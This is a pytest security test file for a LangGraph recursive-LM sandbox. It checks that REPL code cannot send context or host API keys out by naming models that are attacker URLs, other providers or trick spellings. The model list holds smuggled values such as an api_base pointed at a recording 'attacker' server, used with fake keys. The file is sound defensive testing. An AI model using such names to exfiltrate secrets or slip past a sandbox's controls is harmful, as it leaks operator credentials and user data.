"""Sub-call exfiltration: REPL code names a model that is a URL, another provider or a trick
spelling, hoping the host posts the context (and the host's keys) there and hands the reply back.
Only the operator's models are reachable; everything else is an error in the REPL and no request."""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest
from langgraph.checkpoint.memory import InMemorySaver

from langgraph_rlm import build_rlm_graph, close_sandboxes
from tests.conftest import TEST_IMAGE, need_e2b
from tests.loopback import LoopbackServer, QuietHandler
from tests.scripted_models import ScriptedChatModel, steps

FAKE_ANTHROPIC_KEY = "sk-ant-FAKE-host-secret-0123456789"
FAKE_HF_TOKEN = "hf_FAKEhostsecret0123456789"


class RecordingServer(LoopbackServer):
    """Records every request whole (path, headers, body) and answers like an OpenAI server, so a
    request that got through would also carry a reply back into the sandbox."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        self.lock = threading.Lock()
        super().__init__(self._handler())

    def seen(self) -> str:
        with self.lock:
            return json.dumps(self.requests)

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        server = self

        class Handler(QuietHandler):
            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode("utf-8", "replace")
                with server.lock:
                    server.requests.append(
                        {
                            "method": self.command,
                            "path": self.path,
                            "headers": dict(self.headers),
                            "body": body,
                        }
                    )
                reply = {
                    "id": "x",
                    "object": "chat.completion",
                    "created": int(time.time()),
                    "model": "x",
                    "choices": [
                        {
                            "index": 0,
                            "message": {"role": "assistant", "content": "ok"},
                            "finish_reason": "stop",
                        }
                    ],
                    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
                }
                self.reply(200, json.dumps(reply).encode())

            do_GET = do_POST = do_PUT = _record

        return Handler


@pytest.fixture(autouse=True)
async def sandboxes(monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", FAKE_ANTHROPIC_KEY)
    monkeypatch.setenv("HF_TOKEN", FAKE_HF_TOKEN)
    monkeypatch.setenv("HUGGINGFACE_API_KEY", FAKE_HF_TOKEN)
    yield
    await close_sandboxes()


def attempts(models: list[Any]) -> str:
    """Each forbidden name once through llm_query and once through llm_query_batched."""
    return (
        f"models = {models!r}\n"
        "out = []\n"
        "for m in models:\n"
        "    try:\n"
        "        out.append('ANSWERED: ' + llm_query('SECRET CONTEXT', model=m))\n"
        "    except Exception as e:\n"
        "        out.append(type(e).__name__ + ': ' + str(e))\n"
        "    out.extend(llm_query_batched(['SECRET CONTEXT'], model=m))\n"
    )


async def run(code: str, backend: str, tmp_path, api_base: str) -> list[str]:
    root = ScriptedChatModel(respond=steps(f"```repl\n{code}\n```", "```repl\nFINAL(repr(out))\n```"))
    graph = build_rlm_graph(
        root,
        "openai/sub",
        api_base=api_base,
        state_dir=str(tmp_path),
        sub_call_retries=0,
        sandbox=backend,
        docker_image=TEST_IMAGE,
        e2b_workdir=need_e2b().workdir() if backend == "e2b" else "",
    ).compile(checkpointer=InMemorySaver())
    result = await graph.ainvoke({"query": "q"}, {"configurable": {"thread_id": "t"}})
    return eval(result["answer"])


def assert_refused(answers: list[str], count: int) -> None:
    assert len(answers) == 2 * count
    singles, batched = answers[0::2], answers[1::2]
    assert all(a.startswith("LLMQueryError:") and "not allowed" in a for a in singles), singles
    assert all(a.startswith("Error:") and "not allowed" in a for a in batched), batched


async def test_url_shaped_and_trick_model_names_reach_nobody(isolated_backend, tmp_path):
    with RecordingServer() as attacker, RecordingServer() as model_server:
        models = [
            f"oobabooga/{attacker.origin}/x",
            f"openai/{attacker.origin}/v1",
            f"openai/sub?api_base={attacker.origin}",
            f"hosted_vllm/{attacker.origin}/v1",
            "openai/x",
            " openai/sub",
            "openai/sub\n",
            "OPENAI/sub",
            "anthropic/claude-3",
            "huggingface/meta-llama/Llama-3-8B",
            {"model": "openai/sub", "api_base": attacker.origin},
            ["openai/sub"],
            "",
        ]
        code = attempts(models) + "out.append(llm_query('plain question'))\n"
        answers = await run(code, isolated_backend, tmp_path, f"{model_server.origin}/v1")
    assert_refused(answers[:-1], len(models))
    assert answers[-1] == "ok"
    assert attacker.requests == []
    assert len(model_server.requests) == 1 and "plain question" in model_server.requests[0]["body"]
    assert "SECRET CONTEXT" not in model_server.seen()
    assert FAKE_ANTHROPIC_KEY not in model_server.seen() and FAKE_HF_TOKEN not in model_server.seen()


async def test_another_provider_never_gets_the_hosts_key_sent_to_the_api_base(isolated_backend, tmp_path):
    with RecordingServer() as attacker:
        models = ["anthropic/claude-3", "huggingface/meta-llama/Llama-3-8B", "cohere/command-r"]
        answers = await run(attempts(models), isolated_backend, tmp_path, f"{attacker.origin}/v1")
    assert_refused(answers, len(models))
    assert attacker.requests == []
